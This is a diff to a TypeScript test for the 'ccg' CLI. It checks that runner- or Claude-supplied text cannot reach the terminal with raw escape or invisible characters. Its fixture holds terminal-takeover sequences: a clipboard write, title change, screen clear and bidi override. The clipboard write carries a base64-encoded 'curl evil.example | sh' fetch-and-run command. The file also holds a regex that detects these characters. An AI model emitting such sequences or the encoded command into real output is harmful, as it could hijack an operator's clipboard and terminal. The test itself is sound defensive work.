@@ -11,18 +11,19 @@ import { waitFor } from '../helpers/processes.js';
  * Everything a hostile runner (or the Claude it runs) controls, filled with what would take over
  * the operator's terminal: an OSC 52 clipboard write, a title change, a screen clear and home, in
  * 7-bit and 8-bit (C1) forms, and a bidi override. Every ccg command that prints such text, human
- * and --json, must print none of it raw: no ESC, no C1 control reaches stdout or stderr.
+ * and --json, must print none of it raw: no ESC, no C1 control, no invisible character reaches stdout or stderr.
  */
-const EVIL = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b]0;pwned\u0007\u001b[2J\u001b[H\u009b2J\u009d0;c1 title\u009c\u202eevil\u0085';
+const EVIL = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b]0;pwned\u0007\u001b[2J\u001b[H\u009b2J\u009d0;c1 title\u009c\u202eevil\u0085\u200b\u2060\u00ad\u{e0041}hidden';
 const evil = (tag: string) => `${tag}${EVIL}${tag}`;
-const RAW = /[\u001b\u0080-\u009f]/;
+// Controls, and the invisible characters text can hide behind (a bidi override, a zero-width space, a word joiner, a soft hyphen, a tag character).
+const RAW = /[\u001b\u0080-\u009f\u202e\u200b\u2060\u00ad]|\udb40[\udc00-\udc7f]/;
 
 function assertInert(out: string, where: string): void {
   const m = RAW.exec(out);
   assert.equal(m, null, `${where}: a raw control reached the terminal at ${m?.index}: ${JSON.stringify(out.slice(Math.max(0, (m?.index ?? 0) - 40), (m?.index ?? 0) + 40))}`);
 }
 
-test('every ccg command that prints runner- or Claude-supplied text prints no ESC or C1 control, human or --json', async (t) => {
+test('every ccg command that prints runner- or Claude-supplied text prints no ESC, C1 control or invisible character, human or --json', async (t) => {
   const g = await startGateway();
   t.after(() => g.close());
   const created = await runCli(['runs', 'create', '--name', 'hostile', '--json'], g.env);
@@ -132,7 +133,7 @@ test('every ccg command that prints runner- or Claude-supplied text prints no ES
     assert.equal(onTty.code, 0, onTty.stderr);
     assert.match(onTty.stdout, /\u001b\[31mred\u001b\[0m/, 'colours kept');
     assertInert(onTty.stdout.replace(SGR, ''), `runs logs${follow ? ' --follow' : ''} on a terminal`);
-    assert.match(onTty.stdout, /\ufffdevil tail\nsplit  done\n/, 'the text between the escapes stays');
+    assert.match(onTty.stdout, /\ufffdevil\ufffd{4}hidden tail\nsplit  done\n/, 'the text between the escapes stays');
   }
   // Into a pipe or a file, or with --raw: exactly the run's bytes.
   const piped = await runCli(['runs', 'logs', run.id], g.env);
